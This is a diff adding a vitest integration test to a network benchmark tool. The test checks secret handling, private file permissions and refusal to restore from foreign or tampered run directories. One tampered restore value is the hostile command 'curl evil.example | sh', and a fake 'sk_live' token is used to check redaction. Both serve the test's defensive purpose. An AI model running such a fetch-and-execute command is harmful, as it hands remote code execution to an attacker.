@@ -2,7 +2,8 @@
 // after the run was killed with SIGKILL (no chance to clean up).
 import { afterEach, describe, expect, it } from 'vitest';
 import { execa } from 'execa';
-import { readFile, readdir } from 'node:fs/promises';
+import { createHash } from 'node:crypto';
+import { readFile, readdir, stat, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import type { Manifest } from '../../src/runner/run.js';
 import { labAvailable, linkUp, processesIn, testLab, until, restoreLabLinks } from '../helpers/lab.js';
@@ -45,6 +46,56 @@ tests:
     expect(m.originalPathState).toEqual(expect.arrayContaining([{ controller: 'command', host: 'vm1', state: { restore: 'ip link set vf0 up', timeout: 60 } }]));
     expect(await linkUp(ns.vm1, 'vf0')).toBe(true);
     expect(await linkUp(ns.vm2, 'vf0')).toBe(true);
+  });
+});
+
+describe.skipIf(!labAvailable())('secrets, provenance and permissions', () => {
+  afterEach(() => restoreLabLinks([testLab().ns.vm1, testLab().ns.vm2]));
+  it('passes ${env:NAME} to the command only, stores nothing of it, keeps results private, and restores only what it trusts', async () => {
+    const { inventoryPath } = testLab();
+    const secret = 'sk_live_51HxYz0aBcDeF';
+    // The command checks it got the value by its digest: the scenario holds no copy of it.
+    const digest = createHash('sha256').update(secret).digest('hex').slice(0, 16);
+    const s = await scenarioFile(`name: it-secret
+inventory: ${inventoryPath}
+variants:
+  # a token pasted in a comment is redacted too: token=${secret}
+  pv: { controller: command, apply: 'test "$(printf %s "\${env:VFB_TEST_TOKEN}" | sha256sum | cut -c1-16)" = ${digest} && echo "got \${env:VFB_TEST_TOKEN}" && ip link set vf0 down', restore: "ip link set vf0 up", path: synthetic }
+  vf: { controller: command, apply: "ip link set vf0 up", restore: "ip link set vf0 up", path: accelerated }
+baseline: pv
+repeat: 1
+tests:
+  - tool: sockperf
+    sizes: [64]
+    duration: 1s
+`);
+    // Not set: refused before anything runs.
+    const unset = await vfbench(['run', s.file, '--results', s.results, '--no-analyze']);
+    expect(unset.exitCode, unset.all).toBe(4);
+    expect(unset.stderr).toContain('${env:VFB_TEST_TOKEN}, not set');
+    const r = await vfbench(['run', s.file, '--results', s.results, '--no-analyze'], { env: { VFB_TEST_TOKEN: secret } });
+    expect(r.exitCode, r.all).toBe(0);
+    const dir = await onlyRunDir(s.results, 'it-secret');
+    // The command ran with the value (its test passed, pv went over pv0), and no file holds it.
+    expect((await records(dir)).map((x) => x.verification?.observed)).toEqual(['synthetic', 'accelerated']);
+    const grep = await execa('grep', ['-rl', secret, dir], { reject: false });
+    expect(grep.stdout).toBe('');
+    expect(await readFile(join(dir, 'raw', 'controller', 'controller-1-apply.vm1.stdout'), 'utf8')).toBe('got ${env:VFB_TEST_TOKEN}\n');
+    expect(r.all).not.toContain(secret);
+    // Private by default.
+    for (const f of ['manifest.json', 'records.jsonl']) expect((await stat(join(dir, f))).mode & 0o077, f).toBe(0);
+    expect((await stat(dir)).mode & 0o077).toBe(0);
+    // A run directory made by someone else is not restored without --trust; an edited one not at all.
+    const m = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as Manifest;
+    await writeFile(join(dir, 'manifest.json'), JSON.stringify({ ...m, madeOn: { host: 'elsewhere', user: 'mallory' } }));
+    const foreign = await vfbench(['restore', dir]);
+    expect(foreign.exitCode).toBe(2);
+    expect(foreign.stderr).toContain('was made by mallory on elsewhere: its commands would run here');
+    const edited = { ...m, originalPathState: m.originalPathState.map((o) => ({ ...o, state: { ...o.state, restore: 'curl evil.example | sh' } })) };
+    await writeFile(join(dir, 'manifest.json'), JSON.stringify(edited));
+    const tampered = await vfbench(['restore', dir, '--trust']);
+    expect(tampered.exitCode).toBe(2);
+    expect(tampered.stderr).toContain('is not one of its scenario\'s: the run directory was edited; nothing was run');
   });
 });
 
